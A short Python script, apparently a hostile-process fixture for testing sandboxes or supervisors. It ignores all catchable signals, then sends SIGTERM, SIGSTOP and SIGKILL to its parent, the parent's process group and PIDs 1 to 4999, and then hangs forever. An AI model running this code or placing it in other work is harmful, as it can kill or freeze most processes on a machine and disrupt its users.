"""Tries to stop its parents and everything else that it sees, and then waits for ever, deaf to signals."""

import os
import signal

for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)
for victim in (os.getppid(), -os.getpgid(os.getppid()), *range(1, 5000)):
    if victim != os.getpid():
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(victim, number)
            except OSError:
                pass
while True:
    signal.pause()
